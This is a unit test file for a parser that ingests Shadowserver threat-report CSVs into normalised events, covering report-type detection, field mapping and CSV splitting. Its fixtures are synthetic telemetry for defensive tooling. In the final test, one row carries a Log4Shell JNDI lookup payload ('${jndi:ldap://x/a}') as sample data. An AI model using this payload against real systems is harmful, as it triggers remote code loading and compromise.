"""Shadowserver report CSVs: report types from headers, the column mapping, CSV quoting."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.evidence.conformance import CTX, assert_accounted, records_of
from wuzhen.evidence import parsers
from wuzhen.evidence.ingest import IngestOptions
from wuzhen.evidence.parsers._base import ParseResult
from wuzhen.evidence.parsers._csvsplit import split
from wuzhen.evidence.parsers.shadowserver import (
    HEADER,
    REPORTS,
    UNKNOWN,
    UNTERMINATED,
    Shadowserver,
    State,
    header_names,
    layout,
)
from wuzhen.node import Node

SAMPLES = Path(__file__).resolve().parents[2] / "data" / "evidence" / "shadowserver"
SCAN = (
    '"timestamp","ip","protocol","port","hostname","tag","asn","geo","region","city","naics","sic"'
)
TELNET = f'{SCAN},"banner"'
EVENT = (
    '"timestamp","protocol","src_ip","src_port","src_asn","src_geo","dst_ip","dst_port",'
    '"public_source","infection","family","tag","event_id"'
)
PARSER = Shadowserver()


def _parse(lines: list[str], state: State | None = None) -> ParseResult:
    records = records_of(lines)
    result = PARSER.parse(records, state or PARSER.new_state(), CTX)
    assert_accounted(records, result)
    return result


def _rows(result: ParseResult) -> dict[int, dict[str, Any]]:
    return {r["evidence.record"]: r for r in result.events.to_dicts()}


def _reasons(frame: pl.DataFrame) -> dict[str, int]:
    return dict(frame["reason"].value_counts().iter_rows())


def _report(header: str) -> str | None:
    """The type of the header's rows that no value singles out (None: unknown)."""
    names = header_names(header)
    assert names is not None
    last = [REPORTS[i] for i in layout(names).candidates][-1:]
    return last[0].name if last and last[0].when is None else None


# -- report types -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (f'{SCAN},"size","sector","response_size","amplification"', "scan_chargen"),
        (f'{SCAN},"quote","sector","response_size","amplification"', "scan_qotd"),
        (f'{SCAN},"dns_version","min_amplification"', "scan_dns"),
        (f'{SCAN},"product","banner"', "scan_vnc"),
        (TELNET, "scan_telnet"),
        (f'{SCAN},"sector","version","servername","url"', "scan_exchange"),
        (f'{SCAN},"ssl_poodle","freak_vulnerable"', "scan_ssl"),
        (f'{SCAN},"freak_vulnerable"', "scan_ssl_freak"),
        (f'{SCAN},"device_vendor","device_type","device_model"', "device_id"),
        (f"{EVENT},http_url,http_host", "event4_sinkhole_http"),
        (EVENT, None),  # sinkhole rows are told by naming an infection or family
        (SCAN, None),
        ('"timestamp","ip","hostname","source","reason","asn","geo"', "blocklist"),
        ('"timestamp","url","host","ip","asn","geo","source"', "phish_url"),
        ('"timestamp","md5hash","request","type","response"', "sandbox_dns"),
    ],
)
def test_the_header_names_the_report_type(header: str, expected: str) -> None:
    assert _report(header) == expected


def test_new_columns_do_not_change_the_type() -> None:
    # Shadowserver adds columns over the years (severity, hostname_source...): still telnet.
    assert _report(f'{TELNET},"severity","hostname_source"') == "scan_telnet"


def test_the_ddos_target_layout_is_told_by_column_order() -> None:
    ddos = '"timestamp","protocol","src_ip","src_port","dst_ip","dst_port","attack","dst_network"'
    target = '"timestamp","protocol","dst_ip","dst_port","src_ip","src_port","attack","dst_network"'
    assert _report(target) == "event4_honeypot_ddos_target"
    assert _report(ddos) == "event4_honeypot_ddos"


def test_header_names() -> None:
    assert header_names('\ufeff"timestamp","IP",port') == ("timestamp", "ip", "port")
    assert header_names('"ip","port"') is None  # no timestamp
    assert header_names('"2024-01-01 00:00:00","192.0.2.1"') is None


# -- rows of shared headers ---------------------------------------------------------------------


def test_shared_headers_are_told_apart_row_by_row() -> None:
    result = _parse(
        [
            TELNET,
            '"2024-03-01 00:00:01","192.0.2.1","tcp",23,,"telnet",64496,"US",,,,,"login:"',
            '"2024-03-01 00:00:02","192.0.2.2","tcp",25,,"smtp;21nails",64496,"US",,,,,"220 x"',
            '"2024-03-01 00:00:03","2001:db8::1","tcp",23,,"telnet",64496,"US",,,,,"login:"',
        ]
    )
    rows = _rows(result)
    assert {k: (r["feed.name"], r["classification.identifier"]) for k, r in rows.items()} == {
        2: ("scan_telnet", "open-telnet"),
        3: ("scan_smtp_vulnerable", "vulnerable-smtp"),
        4: ("scan6_telnet", "open-telnet"),
    }
    assert rows[3]["protocol.application"] == "smtp"
    assert _reasons(result.skipped) == {HEADER: 1}


def test_sinkhole_events_microsoft_and_ipv6() -> None:
    rows = _rows(
        _parse(
            [
                EVENT,
                '"2024-03-02 10:00:00","tcp","192.0.2.9",4000,64496,"US","198.51.100.1",80,'
                '"MSDCU","b68-zeroaccess-2-32bit","zeroaccess","b68",',
                '"2024-03-02 10:00:01","tcp","2001:db8::9",4001,64496,"US","2001:db8::1",80,'
                ',"Virut",,"virut",77',
                '"2024-03-02 10:00:02","tcp","192.0.2.10",4002,64496,"US","198.51.100.1",80,'
                ',,"andromeda","avalanche-andromeda",',
            ]
        )
    )
    assert rows[2]["feed.name"] == "event4_microsoft_sinkhole"
    assert rows[2]["classification.identifier"] == "b68-zeroaccess-2-32bit"
    assert rows[2]["malware.name"] == "b68-zeroaccess-2-32bit"
    assert rows[3]["feed.name"] == "event6_sinkhole"
    assert (rows[3]["malware.name"], rows[3]["evidence.ref"]) == ("virut", "77")
    # no infection: the family names the malware and the identifier
    assert (rows[4]["classification.identifier"], rows[4]["malware.name"]) == (
        "andromeda",
        "andromeda",
    )
    assert {r["classification.type"] for r in rows.values()} == {"infected-system"}
    assert rows[4]["destination.ip"] == "198.51.100.1"


def test_exchange_webshells_are_compromised_systems() -> None:
    header = f'{SCAN},"version","servername","url"'
    rows = _rows(
        _parse(
            [
                header,
                '"2024-03-01 00:00:01","192.0.2.1","tcp",443,,"exchange;webshell",1,"US",,,,,,,',
                '"2024-03-01 00:00:02","192.0.2.2","tcp",443,,"exchange;cve-2021-26855",1,"US",'
                ",,,,,,",
            ]
        )
    )
    assert (rows[2]["classification.type"], rows[2]["classification.identifier"]) == (
        "system-compromise",
        "exchange-server-webshell",
    )
    assert (rows[3]["classification.type"], rows[3]["classification.identifier"]) == (
        "vulnerable-system",
        "vulnerable-exchange-server",
    )


def test_an_unknown_report_is_read_by_its_header() -> None:
    header = f'{SCAN},"widget_version"'
    result = _parse(
        [
            header,
            '"2024-03-06 12:00:00","192.0.2.60","tcp",8443,,"widget",64496,"CA",,,,,"2.1"',
            '"2024-03-06 12:00:01","192.0.2.61","tcp",8443,,,64496,"CA",,,,,"2.2"',
        ]
    )
    rows = _rows(result)
    assert {k: r["classification.identifier"] for k, r in rows.items()} == {
        2: "widget",
        3: UNKNOWN,
    }
    assert {r["classification.type"] for r in rows.values()} == {"undetermined"}
    assert {r["feed.name"] for r in rows.values()} == {None}
    assert {r["feed.provider"] for r in rows.values()} == {"Shadowserver"}
    assert json.loads(rows[2]["extra"]) == {"tag": "widget", "widget_version": "2.1"}
    assert (rows[2]["source.ip"], rows[2]["source.port"]) == ("192.0.2.60", 8443)


def test_known_and_unknown_rows_under_one_header() -> None:
    rows = _rows(
        _parse(
            [
                SCAN,
                '"2024-03-05 08:42:45","198.51.100.3","tcp",4786,,"cisco-smart-install",1,"AT",,,,',
                '"2024-03-05 08:42:46","198.51.100.4","tcp",4786,,"gizmo",1,"AT",,,,',
                '"2024-03-05 08:42:47","2001:db8::5","tcp",1080,,"socks4",1,"AT",,,,',
            ]
        )
    )
    assert {
        k: (r["feed.name"], r["classification.identifier"], r["protocol.application"])
        for k, r in rows.items()
    } == {
        2: ("scan_cisco_smart_install", "accessible-cisco-smart-install", "cisco-smart-install"),
        3: (None, "gizmo", None),
        4: ("scan6_socks", "open-socks", "socks4"),
    }


def test_an_unknown_event_report_with_an_infection_is_an_infected_system() -> None:
    header = '"timestamp","src_ip","src_port","infection","gizmo"'
    rows = _rows(_parse([header, '"2024-03-06 12:00:00","192.0.2.62",1234,"Mirai","x"']))
    assert (
        rows[2]["classification.type"],
        rows[2]["classification.identifier"],
        rows[2]["malware.name"],
    ) == ("infected-system", "Mirai", "mirai")


# -- the mapping -----------------------------------------------------------------------------


def test_blocklist_networks_and_reverse_dns() -> None:
    header = '"timestamp","ip","hostname","source","reason","asn","geo","region","city","naics"'
    rows = _rows(
        _parse(
            [
                header,
                '"2024-03-03 07:00:19","192.0.2.30","bad.example.com","Feed","Bad host",0,"us",,,0',
                '"2024-03-03 07:00:19","198.51.100.0/24",,"Feed","Bad net",64497,"XX-1",,,',
            ]
        )
    )
    assert rows[2]["source.ip"] == "192.0.2.30"
    assert rows[2]["source.asn"] is None  # 0 is no ASN
    assert rows[2]["source.geolocation.cc"] == "US"
    assert rows[2]["source.fqdn"] is None  # a reverse DNS name, kept in extra
    assert json.loads(rows[2]["extra"]) == {"hostname": "bad.example.com", "source": "Feed"}
    assert rows[2]["event_description.text"] == "Bad host"
    assert (rows[3]["source.ip"], rows[3]["source.network"]) == (None, "198.51.100.0/24")
    assert rows[3]["source.geolocation.cc"] is None


def test_urls_and_hosts() -> None:
    website = (
        '"timestamp","ip","port","tag","application","url","http_host","category","family"\n'
        '"2024-03-04 00:43:48","203.0.113.40",443,"magecart","https","/cart.js",'
        '"www.shop.example","skimmer","Magecart"'
    )
    rows = _rows(_parse(website.splitlines()))
    assert rows[2]["source.url"] == "https://www.shop.example/cart.js"
    assert rows[2]["source.fqdn"] == "www.shop.example"
    assert rows[2]["malware.name"] == "magecart"
    assert rows[2]["classification.identifier"] == "compromised-website"
    malware = (
        '"timestamp","url","host","ip","asn","geo","tag","sha256"\n'
        '"2024-03-04 00:02:07","http://192.0.2.5:50008/Mozi.m","192.0.2.5","192.0.2.5",'
        '1,"LR","CVE-2016-10372",'
    )
    rows = _rows(_parse(malware.splitlines()))
    assert rows[2]["source.url"] == "http://192.0.2.5:50008/Mozi.m"
    assert rows[2]["source.fqdn"] is None  # an address is not a host name


def test_sinkhole_http_destination() -> None:
    header = f"{EVENT},http_url,http_host"
    line = (
        '"2024-03-02 10:00:00","tcp","192.0.2.9",4000,64496,"US","198.51.100.1",80,,'
        '"andromeda",,,,"GET /in.php?a=1 HTTP/1.1","c2.example.com"'
    )
    row = _rows(_parse([header, line]))[2]
    assert (row["destination.fqdn"], row["destination.urlpath"]) == (
        "c2.example.com",
        "/in.php?a=1",
    )
    assert row["protocol.application"] == "http"


def test_every_sinkhole_report_names_the_malware_by_family_without_infection() -> None:
    """Regression (tester's defect 3): ``event4_sinkhole_http_referer`` rows with an empty
    ``infection`` and ``family`` kovter had no ``malware.name``."""
    sinkholes = [r for r in REPORTS if "sinkhole" in r.name]
    assert {r.name for r in sinkholes} >= {
        "event4_sinkhole",
        "event4_sinkhole_http",
        "event4_sinkhole_http_referer",
        "event4_sinkhole_dns",
        "event4_microsoft_sinkhole",
        "event4_microsoft_sinkhole_http",
    }
    assert all(r.malware == ("infection", "family") for r in sinkholes)
    referer = (
        '"timestamp","protocol","http_referer_ip","http_referer_port","dst_ip","dst_port",'
        '"infection","family","tag","event_id","http_referer"'
    )
    dns = '"timestamp","protocol","src_ip","src_port","query_type","query","infection","family"'
    rows = _rows(
        _parse(
            [
                referer,
                '"2021-03-04 00:00:02","tcp","192.0.2.7",80,"198.51.100.2",80,,"Kovter",'
                '"kovter",1614816002,"http://a.example.com/x"',
                '"2021-03-04 00:00:03","tcp","192.0.2.8",80,"198.51.100.2",80,"sunburst",'
                '"other",,1614816003,"http://b.example.com/"',
                dns,
                '"2022-01-06 00:00:02","udp","192.0.2.9",53,"A","c2.example.com",,"calypso"',
            ]
        )
    )
    assert (rows[2]["feed.name"], rows[2]["malware.name"]) == (
        "event4_sinkhole_http_referer",
        "kovter",
    )
    # the identifier stays IntelMQ's: the infection, else the report's own
    assert rows[2]["classification.identifier"] == "sinkhole-http-referer"
    assert rows[3]["malware.name"] == "sunburst"  # the infection first
    assert (rows[5]["feed.name"], rows[5]["malware.name"]) == ("event4_sinkhole_dns", "calypso")
    assert "family" not in (rows[2]["extra"] or "")


def test_credentials_personal_data_and_payloads_stay_out_of_extra() -> None:
    header = (
        '"timestamp","src_ip","src_port","start_time","client_version","username","password",'
        '"application","subject_email_address","raw_cert","request_raw","dst_naics"'
    )
    line = (
        '"2024-03-07 00:00:00","192.0.2.70",30123,"2024-03-07T00:00:00Z","SSH-2.0-Go",'
        '"root","hunter2","ssh","a@example.org","MIIB","R0VU",0'
    )
    row = _rows(_parse([header, line]))[2]
    assert json.loads(row["extra"]) == {
        "start_time": "2024-03-07T00:00:00Z",
        "client_version": "SSH-2.0-Go",
    }
    assert row["classification.identifier"] == "ssh"
    assert "hunter2" not in row["extra"]


def test_extra_is_json_whatever_the_text() -> None:
    banner = 'a "quoted" \\path\\ and\tcontrol\x01 chars, é'
    line = '"2024-03-01 00:00:01","192.0.2.1","tcp",23,,"t",1,"US",,,,,' + _quoted(banner)
    row = _rows(_parse([TELNET, line]))[2]
    assert json.loads(row["extra"]) == {"tag": "t", "banner": banner}


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-03-01 00:00:01", datetime(2024, 3, 1, 0, 0, 1, tzinfo=UTC)),
        ("2024-03-01T00:00:01Z", datetime(2024, 3, 1, 0, 0, 1, tzinfo=UTC)),
        ("2024-03-01 00:00:01.250", datetime(2024, 3, 1, 0, 0, 1, 250000, tzinfo=UTC)),
        ("2024-03-01 02:00:01+02:00", datetime(2024, 3, 1, 0, 0, 1, tzinfo=UTC)),
        ("2024-03-01T02:00:01.5+0200", datetime(2024, 3, 1, 0, 0, 1, 500000, tzinfo=UTC)),
    ],
)
def test_timestamps(text: str, expected: datetime) -> None:
    line = f'"{text}","192.0.2.1","tcp",23,,"telnet",1,"US",,,,,"x"'
    assert _rows(_parse([TELNET, line]))[2]["time.source"] == expected


# -- rejects, headers, state -------------------------------------------------------------------


def test_unreadable_rows_are_rejected_with_reasons() -> None:
    result = _parse(
        [
            '"2024-03-01 00:00:00","192.0.2.9","tcp",23',
            TELNET,
            '"2024-03-01 00:00:01","192.0.2.1","tcp",23,,"t",1,"US",,,,,"x","extra field"',
            '"2024-03-01 00:00:02","192.0.2.1","tcp",23,,"t",1,"US",,,,,"unterminated',
            '"2024-03-01 00:00:03","192.0.2.1","tcp",23,,"t",1,"US",,,,,"a"b',
            '"someday","192.0.2.1","tcp",23,,"t",1,"US",,,,,"x"',
            '"2024-03-01 00:00:04",,"tcp",23,,"t",1,"US",,,,,"x"',
            '"2024-03-01 00:00:05","192.0.2.2","tcp",23',  # short: missing columns are empty
        ]
    )
    assert _reasons(result.rejects) == {
        "CSV row before any header line": 1,
        "CSV row has more fields than its header": 1,
        UNTERMINATED: 1,
        "timestamp missing or not readable": 1,
        "no source (address, network, host or URL)": 1,
    }
    rows = _rows(result)
    assert sorted(rows) == [5, 8]
    assert rows[5]["extra"] == '{"tag":"t","banner":"ab"}'  # text after a quote is kept
    assert (rows[8]["source.ip"], rows[8]["source.port"], rows[8]["extra"]) == (
        "192.0.2.2",
        23,
        None,
    )


def test_the_header_is_carried_to_the_next_batches_and_replaced_by_a_new_one() -> None:
    state = PARSER.new_state()
    first = PARSER.parse(records_of([TELNET]), state, CTX)
    assert (first.events.height, _reasons(first.skipped)) == (0, {HEADER: 1})
    second = records_of(
        [
            "",
            '"2024-03-01 00:00:01","192.0.2.1","tcp",23,,"telnet",1,"US",,,,,"x"',
            f'{SCAN},"sector"',
            '"2024-03-01 00:00:02","192.0.2.2","tcp",1080,,"socks5",1,"US",,,,,',
        ]
    )
    result = PARSER.parse(second, state, CTX)
    assert_accounted(second, result)
    assert {k: r["feed.name"] for k, r in _rows(result).items()} == {
        2: "scan_telnet",
        4: "scan_socks",
    }
    assert state.names == header_names(f'{SCAN},"sector"')


def test_sniff() -> None:
    assert PARSER.sniff([TELNET, '"2024-03-01 00:00:01","192.0.2.1"']) == 95
    assert PARSER.sniff(['"timestamp","ip","asn","gizmo"']) == 60
    assert PARSER.sniff(['"timestamp","value"']) == 0
    assert PARSER.sniff(['"2024-03-01 00:00:01","192.0.2.1"']) == 0
    assert PARSER.sniff(["first_seen_utc,dst_ip,dst_port,c2_status"]) == 0
    assert PARSER.sniff([]) == 0


def test_every_sample_is_detected() -> None:
    for path in sorted(SAMPLES.glob("*.csv")):
        sample = [ln for ln in path.read_text().splitlines() if ln.strip()]
        assert parsers.detect(sample).name == "shadowserver", path.name


# -- CSV splitting -----------------------------------------------------------------------------

FIELD = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\r\n\x00"),
    max_size=12,
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(FIELD, min_size=1, max_size=6), min_size=1, max_size=20))
def test_split_reads_what_csv_writes(rows: list[list[str]]) -> None:
    width = max(len(r) for r in rows)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerows(rows)
    lines = pl.Series(buffer.getvalue().split("\n")[:-1], dtype=pl.String)
    names = {f"c{i}": i for i in range(width)}
    fields = split(lines, width, names, names)
    assert fields.counts.tolist() == [len(r) for r in rows]
    for i, column in enumerate(fields.columns):
        expected = [r[i] if i < len(r) and r[i] else None for r in rows]
        assert column.to_list() == expected
    for row, obj in zip(rows, fields.objects.to_list(), strict=True):
        expected_obj = {f"c{i}": v for i, v in enumerate(row) if v}
        assert (json.loads(obj) if obj is not None else {}) == expected_obj


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet='ab,"\\ é\t', max_size=15), min_size=1, max_size=20))
def test_split_agrees_with_python_csv_on_any_line(lines: list[str]) -> None:
    fields = split(pl.Series(lines, dtype=pl.String), 8, {f"c{i}": i for i in range(8)}, {})
    for i, line in enumerate(lines):
        count = int(fields.counts[i])
        if count < 0:  # a quoted field that does not end on the line
            continue
        expected = next(csv.reader([line]), [""]) if line else [""]
        assert count == len(expected)
        got = [fields.columns[c][i] for c in range(min(count, 8))]
        assert got == [v or None for v in expected[:8]]


def test_pipeline_stamps_feed_and_keeps_the_default_marking(sqlite_node: Node) -> None:
    path = SAMPLES / "scan_telnet.csv"
    report = sqlite_node.pipeline.ingest([path], IngestOptions(owner="CN"))
    f = report.files[0]
    assert (f.format, f.records, f.events, f.skipped, f.rejects) == ("shadowserver", 10, 6, 1, 3)
    events = sqlite_node.store.scan("events").collect()
    assert set(events["feed.provider"]) == {"Shadowserver"}
    assert set(events["tlp"]) == {"AMBER"}
    assert set(events["feed.name"]) == {"scan_telnet", "scan6_telnet", "scan_smtp_vulnerable"}


def test_a_sinkhole_http_referer_is_no_source() -> None:
    # Tester's report (feeds-2): in event4_sinkhole_http, http_referer is a header the bot
    # sent; it became source.url, and a MISP export published the victim's page as an IOC.
    header = f'{EVENT},"http_url","http_host","http_agent","http_referer"'
    row = (
        '"2024-05-01 10:00:00","tcp","192.0.2.20",4000,64496,"CN","198.51.100.1",80,,'
        '"andromeda","andromeda",,,"/in.php","sinkholed.example","Mozilla/4.0",'
        '"http://www.victim-news.example.com/article?id=1"'
    )
    (event,) = _rows(_parse([header, row])).values()
    assert (event["feed.name"], event["source.ip"], event["source.url"]) == (
        "event4_sinkhole_http",
        "192.0.2.20",
        None,
    )
    assert json.loads(event["extra"])["http_referer"] == (
        "http://www.victim-news.example.com/article?id=1"
    )


def test_an_unknown_event_report_is_no_sinkhole() -> None:
    # Tester's report (feeds-3): every event report has the infection column, so any new one
    # was read as a sinkhole's infected systems; rows naming no infection are of no known type.
    header = f'{EVENT},"http_url","http_agent","http_request_method","cve"'
    row = (
        '"2024-05-01 10:00:00","tcp","192.0.2.21",4000,64496,"CN","198.51.100.1",80,,,,'
        '"cve-2021-44228",,"/${jndi:ldap://x/a}","curl","GET","CVE-2021-44228"'
    )
    (event,) = _rows(_parse([header, row])).values()
    assert (
        event["feed.name"],
        event["classification.type"],
        event["classification.identifier"],
    ) == (None, "undetermined", "cve-2021-44228")
